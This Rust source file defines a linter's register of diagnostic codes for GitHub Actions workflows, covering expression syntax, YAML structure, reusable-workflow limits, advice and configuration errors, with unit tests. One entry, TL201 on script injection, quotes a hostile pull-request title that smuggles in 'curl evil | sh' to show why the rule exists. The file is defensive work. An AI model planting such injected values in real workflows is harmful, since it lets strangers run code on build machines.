//! The register of diagnostic codes. A code is never reused for another meaning: scripts and editors filter by it.
//!
//! Pure: no I/O, no clock, no async.

/// An entry of the register.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Code {
    /// `TL` and three digits.
    pub id: &'static str,
    /// A few words.
    pub title: &'static str,
    /// A paragraph: what the rule is, why it exists, how to mend it.
    pub explanation: &'static str,
}

/// The paragraph about a code; letters compare without case.
#[must_use]
pub fn explain(code: &str) -> Option<&'static Code> {
    ALL.iter().find(|entry| entry.id.eq_ignore_ascii_case(code))
}

macro_rules! codes {
    ($($name:ident = $id:literal, $title:literal, $explanation:literal;)*) => {
        $(#[doc = $title] pub const $name: &str = $id;)*

        /// All of them, by number.
        pub const ALL: &[Code] = &[$(Code { id: $id, title: $title, explanation: $explanation }),*];
    };
}

// 0xx: expressions.
codes! {
    EXPRESSION_SYNTAX = "TL001", "malformed expression",
        "The text between ${{ and }} is not a well-formed expression. Strings stand in single quotes ('it''s'), \
         there is no arithmetic, and the operators are ! < <= > >= == != && || . [] ().";
    EXPRESSION_UNCLOSED = "TL002", "expression without an end",
        "A ${{ has no }} behind it. A }} inside a string in single quotes does not end an expression.";
    UNKNOWN_CONTEXT = "TL003", "context not available here",
        "The expression names a context that does not exist or that GitHub does not offer at this place. Which \
         contexts exist depends on the key: a job's `if` has only github, inputs, vars and needs, for example, \
         because it is decided before the job has a matrix leg, an environment or a machine.";
    UNKNOWN_FUNCTION = "TL004", "function not available here",
        "The expression calls a function that does not exist or that GitHub does not offer at this place. \
         success(), failure(), cancelled() and always() stand in `if` only; hashFiles() needs a workspace, so it \
         is known in the keys of steps only.";
    EXPRESSION_LIMIT = "TL005", "expression too long or too deep",
        "GitHub accepts expressions of at most 21,000 characters whose operators, functions and properties are \
         nested at most 50 levels deep.";
    EXPRESSION_NOT_ALLOWED = "TL006", "expression not allowed here",
        "GitHub reads this key before any context exists, so its value must be written out.";

    // 1xx: workflow and action files.
    YAML = "TL100", "not well-formed YAML",
        "The file cannot be read as YAML at all, so nothing else can be said about it. Frequent causes are tabs used \
         for indentation, a value that begins with a special character and is not quoted, and a colon followed by a \
         space inside a value that is not quoted.";
    YAML_TAG = "TL101", "unknown YAML tag",
        "GitHub knows the tags of YAML's core schema only (!!str, !!int, !!float, !!bool, !!null). A timestamp, for \
         example, is plain text.";
    FILE_TOO_LARGE = "TL102", "file too large",
        "GitHub reads workflow files of at most 1 MiB, and aliases may not multiply their content without bound.";
    TOO_DEEP = "TL103", "nested too deeply",
        "At most 50 lists and mappings may be inside one another.";
    DUPLICATE_KEY = "TL104", "defined twice",
        "A key, job or step has been defined before at the same place. Names compare without case, so FOO and foo \
         are the same.";
    UNKNOWN_KEY = "TL105", "unknown key",
        "GitHub refuses a file with a key it does not know, before anything runs. Which keys are known depends on \
         the keys before it: a step with `run` has no `with`, and a job with `uses` has no `runs-on`.";
    MISSING_KEY = "TL106", "missing key",
        "A key that must be there is not: a workflow has `on` and `jobs`, a job `runs-on` or `uses`, a step `run` or \
         `uses`. Check its spelling and its indentation; a key that stands too far left belongs to something else.";
    WRONG_TYPE = "TL107", "wrong kind of value",
        "The value is of another kind than the key asks for: text where a list is due, a mapping where a number is \
         due, nothing where something must stand. Numbers and booleans in quotes are text.";
    UNKNOWN_VALUE = "TL108", "unknown value",
        "The key knows a few words only, and this is none of them.";
    UNKNOWN_EVENT = "TL110", "unknown event",
        "No event has this name. The list is that of GitHub's documentation, \"Events that trigger workflows\", and \
         Towline's own event `towline`.";
    UNKNOWN_ACTIVITY = "TL111", "unknown activity type",
        "The event exists, but it has no such activity type.";
    BOTH_FILTERS = "TL112", "a filter and its opposite",
        "An event may be filtered by `branches` or `branches-ignore`, not both; likewise for `tags` and `paths`. A \
         pattern with ! before it takes away from the patterns before it, so one list is enough.";
    CRON = "TL113", "malformed schedule",
        "A schedule has five fields: minute, hour, day of the month, month, day of the week. There are lists (1,2), \
         ranges (1-5), steps (*/15) and the names JAN-DEC and SUN-SAT; there is no @daily, no L, W or #, and no \
         field of seconds.";
    CRON_TOO_OFTEN = "TL114", "schedule too frequent",
        "GitHub starts a schedule every five minutes at most, whatever the expression says.";
    TIME_ZONE = "TL115", "unknown time zone",
        "A time zone is given by its IANA name, for example Europe/Berlin.";
    DISPATCH_INPUT = "TL116", "impossible input",
        "An input of workflow_dispatch has a type among string, boolean, number, choice and environment; a choice has \
         options and nothing else has; there are at most 25 inputs.";
    INPUT_DEFAULT = "TL117", "default does not fit",
        "The default of an input is not of the input's type, or is none of its options.";
    IDENTIFIER = "TL120", "malformed id",
        "Ids of jobs and steps begin with a letter or _, go on with letters, digits, - and _, and have less than 100 \
         characters. Step ids that begin with __ are reserved.";
    NEEDS = "TL121", "impossible needs",
        "`needs` names jobs of the same file. No job may wait for itself, neither directly nor through others, and at \
         least one job must wait for none.";
    USES = "TL122", "malformed reference",
        "A step uses owner/repository[/path]@ref, ./path in the workspace, $/path in the repository of the file that \
         says it, or docker://image. A job uses owner/repository/path/file.yml@ref, ./path/file.yml or $/path/file.yml.";
    MATRIX = "TL123", "impossible matrix",
        "Every vector of a matrix has at least one value.";
    BACKGROUND_STEP = "TL124", "no such background step",
        "`wait` and `cancel` name a step before them, by its id, that has `background: true`.";
    CONCURRENCY = "TL125", "contradicting concurrency",
        "`queue: max` keeps what waits, `cancel-in-progress: true` cancels it: GitHub refuses both together.";
    SCRIPT_LENGTH = "TL126", "script too long",
        "GitHub takes scripts of at most 21,000 characters in `run`. Put a longer one into a file of the repository.";
    ACTION_USING = "TL130", "unknown kind of action",
        "`runs.using` says how the action runs: composite, docker, node20 or node24; node12 and node16 run on newer \
         versions of node.";
    CALL_INPUT = "TL140", "input of a called workflow",
        "`with` passes inputs that the called workflow declares under `on.workflow_call.inputs`, of the declared \
         type; required ones must be there.";
    CALL_SECRET = "TL141", "secret of a called workflow",
        "`secrets` passes secrets that the called workflow declares under `on.workflow_call.secrets`, or `inherit` \
         passes all; required ones must be there.";
    CALL_PERMISSIONS = "TL142", "called workflow asks for more",
        "The token of a called workflow can do what the caller's can, or less. Grant the permission in the calling \
         job, or ask for less in the called file.";
    CALL_LIMIT = "TL143", "too many called workflows",
        "Workflows may call one another 10 levels deep, and a run may call 50 at most.";
    CALLED_FILE = "TL144", "called workflow is faulty",
        "The workflow that this job calls does not exist, cannot be called (`on.workflow_call` is missing), calls \
         itself, or has errors of its own.";

    // 2xx: advice.
    CONSTANT_CONDITION = "TL200", "condition that never changes",
        "The condition does not depend on anything: with text around ${{ }} the whole is a string, and a string that \
         is not empty is true. Put the whole condition inside one ${{ }}, or leave ${{ }} out.";
    SCRIPT_INJECTION = "TL201", "text of strangers in a script",
        "The value comes from whoever wrote the pull request, issue or commit, and it becomes part of the script \
         before the shell reads it: a title like `\"; curl evil | sh; \"` would run. Put the value into `env` and use \
         the variable in the script, in quotes.";
    DEPRECATED_COMMAND = "TL202", "deprecated workflow command",
        "set-output and save-state still work with a warning, set-env and add-path fail the step. Append to the files \
         named by GITHUB_OUTPUT, GITHUB_STATE, GITHUB_ENV and GITHUB_PATH.";
    UNKNOWN_SHELL = "TL203", "unknown shell",
        "The shell is none of bash, sh, pwsh, powershell, cmd and python, and it does not say with {0} where the \
         script's path goes, so the step will fail.";
    UNKNOWN_STEP = "TL204", "no such step",
        "`steps.ID` is empty until the step with that id has run; no step before this place has it.";
    UNKNOWN_NEED = "TL205", "no such need",
        "`needs.ID` holds the jobs listed under the job's own `needs`, and no others.";
    SNAPSHOT = "TL206", "snapshot has no effect",
        "`snapshot` makes an image of a machine that GitHub hosts. On your own machines it does nothing.";
    ACTION_METADATA = "TL207", "incomplete action file",
        "The action runs, but it lacks what GitHub shows or what publishing asks for, or it has keys nobody reads.";
    COMPOSITE_SHELL = "TL208", "composite step without a shell",
        "A composite action does not know the defaults of the workflow that uses it, so each of its `run` steps says \
         which shell runs it. GitHub's runner refuses to load the action otherwise.";

    // 9xx: configuration.
    CONFIG_SYNTAX = "TL901", "configuration is not TOML",
        "The configuration file could not be read as TOML, so nothing of it is used. A daemon that is running keeps \
         the configuration it has.";
    CONFIG_UNKNOWN_KEY = "TL902", "unknown key in the configuration",
        "Nothing reads this key. It is refused because it is nearly always a misspelling of one that matters.";
    CONFIG_VALUE = "TL903", "impossible value in the configuration",
        "The value has the wrong type, is out of range, or is not one of the words this key knows.";
    CONFIG_DUPLICATE = "TL904", "name given twice in the configuration",
        "Hosts and sources are told apart by their names, whatever their case, over all configuration files.";
    CONFIG_MISSING = "TL905", "something is missing in the configuration",
        "A table lacks a key that it needs, or that a part of it needs to work.";
    CONFIG_SECRET = "TL906", "secret in clear text",
        "The configuration is read by more people and programs than a secret should be. Keep the value in a file that \
         only the daemon may read, in a systemd credential, or in the environment, and name that place.";
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn codes_are_unique_ordered_and_explained() {
        for pair in ALL.windows(2) {
            assert!(pair[0].id < pair[1].id, "{} is not before {}", pair[0].id, pair[1].id);
        }
        for code in ALL {
            assert!(code.id.len() == 5 && code.id.starts_with("TL"), "{}", code.id);
            assert!(code.explanation.len() > 40, "{} lacks an explanation", code.id);
            assert!(!code.explanation.contains("  "), "{} has a run of spaces", code.id);
        }
    }

    #[test]
    fn explain_finds_without_case() {
        assert_eq!(explain("tl003").map(|code| code.id), Some(UNKNOWN_CONTEXT));
        assert_eq!(explain("TL999"), None);
    }
}
